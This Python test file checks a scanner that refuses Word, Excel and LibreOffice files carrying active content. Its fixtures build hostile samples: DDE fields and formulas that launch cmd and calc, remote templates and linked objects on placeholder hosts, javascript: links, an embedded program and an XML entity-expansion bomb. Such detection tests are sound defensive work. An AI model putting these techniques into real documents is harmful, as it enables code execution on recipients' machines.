"""Nothing that runs or reaches out gets in with an office document."""

import pytest

from . import files
from .files import docx, field, opendocument, relation, with_parts, xlsx

MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"

HEADER = f'<w:hdr xmlns:w="{files.WORD}">{field("DDE x y")}</w:hdr>'
SHARED_TEMPLATE = relation("attachedTemplate", "\\\\x\\a.dotm")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PACKAGED = OLE + "\x01Ole10Native".encode("utf-16-le") + b"\0\0" + b"C:\\tools\\run.exe\0" + b"\0" * 40


def dde_link(archive: bytes) -> bytes:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    return with_parts(archive, {"xl/externalLinks/externalLink1.xml": link})


REFUSED_WORD = {
    "macros by their part": ("macros", docx(parts={"word/vbaProject.bin": OLE})),
    "macros by their type": ("macros", docx(types=(MACRO_TYPE,))),
    "macros under another name": ("macros", docx(types=("application/vnd.ms-office.vbaProject",))),
    "ActiveX": ("macros", docx(parts={"word/activeX/activeX1.xml": "<a/>"})),
    "a remote template": ("remote-template", docx(parts={SETTINGS_RELS: relation("attachedTemplate", "http://x.test/a.dotm")})),
    "a template on a share": ("remote-template", docx(parts={SETTINGS_RELS: SHARED_TEMPLATE})),
    "a linked object": ("remote-object", docx(parts={RELS: relation("oleObject", "http://x.test/a.hta!")})),
    "a linked frame": ("remote-object", docx(parts={RELS: relation("frame", "http://x.test/")})),
    "a web page as a part": ("foreign-part", docx(types=("text/html",))),
    "a link that runs": ("running-link", docx(parts={RELS: relation("hyperlink", "javascript:alert(1)")})),
    "DDE": ("dde", docx(field("DDE cmd /C calc"))),
    "DDEAUTO in pieces": ("dde", docx(field(" DD", "EAU", "TO c:\\\\windows\\\\cmd.exe"))),
    "DDE in a simple field": ("dde", docx('<w:p><w:fldSimple w:instr=" DDEAUTO cmd calc"/></w:p>')),
    "DDE spelt in numbers": ("dde", docx(field("QUOTE 68 68 69 65 85 84 79"))),
    "text from elsewhere": ("remote-object", docx(field('INCLUDETEXT "https://x.test/a.docx"'))),
    "a linked workbook": ("remote-object", docx(field('LINK Excel.Sheet.12 "\\\\\\\\x\\\\a.xlsx" a'))),
    "a field that runs": ("running-link", docx(field('HYPERLINK "javascript:alert(1)"'))),
    "DDE in a header": ("dde", docx(parts={"word/header1.xml": HEADER})),
    "a program in an object": ("embedded-program", docx(parts={"word/embeddings/oleObject1.bin": PACKAGED})),
    "a program by itself": ("embedded-program", docx(parts={"word/media/image1.png": files.PROGRAM})),
    "a workbook with macros inside": (
        "embedded-program",
        docx(parts={"word/embeddings/book.xlsm": with_parts(xlsx(), {"xl/vbaProject.bin": "x"})}),
    ),
}  # fmt: skip


@pytest.mark.parametrize(("code", "content"), REFUSED_WORD.values(), ids=REFUSED_WORD.keys())
def test_a_word_document_that_does_harm_is_refused(look, code, content):
    assert code in {finding.code for finding in look("notes.docx", content).obstacles}


REFUSED_EXCEL = {
    "a DDE link": ("dde", dde_link(xlsx())),
    "a DDE formula": ("dde", xlsx(lambda book: book.active.append(["=cmd|' /C calc'!A0"]))),
    "macros": ("macros", with_parts(xlsx(), {"xl/vbaProject.bin": OLE})),
    "a macro sheet": ("macros", with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": "<a/>"})),
}


@pytest.mark.parametrize(("code", "content"), REFUSED_EXCEL.values(), ids=REFUSED_EXCEL.keys())
def test_a_workbook_that_does_harm_is_refused(look, code, content):
    assert code in {finding.code for finding in look("beds.xlsx", content).obstacles}


SCRIPT_LINK = (
    '<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Python&amp;location=share"/>'
)
REFUSED_OPEN = {
    "macros": ("macros", opendocument(parts={"Basic/Standard/Module1.xml": "<module/>"})),
    "a script": ("macros", opendocument(parts={"Scripts/python/a.py": "print()"})),
    "an event that runs": ("macros", opendocument(body=f"<office:scripts>{SCRIPT_LINK}</office:scripts>")),
    "a link that runs": ("running-link", opendocument(body='<text:a xlink:href="vnd.sun.star.script:x"/>')),
    "a remote template": ("remote-template", opendocument(meta='<meta:template xlink:href="http://x.test/a.ott"/>')),
    "a page that reloads": ("remote-template", opendocument(meta='<meta:auto-reload xlink:href="http://x.test/"/>')),
    "a section from elsewhere": ("remote-object", opendocument(body='<text:section-source xlink:href="http://x.test/a"/>')),
    "DDE": ("dde", opendocument(body='<text:dde-connection-decl office:dde-application="cmd"/>')),
    "a DDE formula": ("dde", opendocument(body='<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>')),
    "a program in an object": ("embedded-program", opendocument(parts={"Object 1": PACKAGED})),
}  # fmt: skip


@pytest.mark.parametrize(("code", "content"), REFUSED_OPEN.values(), ids=REFUSED_OPEN.keys())
def test_a_libreoffice_document_that_does_harm_is_refused(look, code, content):
    assert code in {finding.code for finding in look("notes.odt", content).obstacles}


def test_a_password_is_refused(codes):
    locked = OLE + "EncryptedPackage".encode("utf-16-le")
    assert codes("notes.docx", locked) == {"encrypted"}
    manifest = f"<manifest:manifest {files.SPACES}><manifest:encryption-data/></manifest:manifest>"
    assert codes("notes.odt", opendocument(parts={"META-INF/manifest.xml": manifest})) == {"encrypted"}


def test_xml_that_unfolds_without_end_is_refused(codes):
    bomb = '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
    assert codes("notes.docx", docx(parts={"word/document.xml": bomb})) == {"unreadable"}


def test_links_fields_and_own_templates_pass(look):
    honest = docx(
        field('HYPERLINK "https://www.nhs.uk/dde/"') + field("PAGE"),
        parts={
            RELS: relation("hyperlink", "https://www.nhs.uk/"),
            SETTINGS_RELS: relation("attachedTemplate", "file:///C:\\Users\\jo\\Trust.dotx"),
        },
    )
    report = look("notes.docx", honest)
    assert report.obstacles == report.warnings == []
    assert "own-template" in {finding.code for finding in report.findings}


def test_formulas_that_calculate_pass(codes):
    def fill(book):
        book.active.append(["=SUM(A1:A9)", '=IF(A1="a|b!","yes","no")', "=Sheet!A1"])

    assert codes("beds.xlsx", xlsx(fill)) == set()


def test_a_chart_carries_its_workbook_and_is_warned_of(codes):
    assert codes("notes.docx", docx(parts={"word/embeddings/book.xlsx": xlsx()})) == {"embedded-files"}


def test_a_picture_from_elsewhere_is_warned_of(codes):
    assert codes("notes.docx", docx(parts={RELS: relation("image", "http://x.test/a.png")})) == {
        "remote-picture"
    }
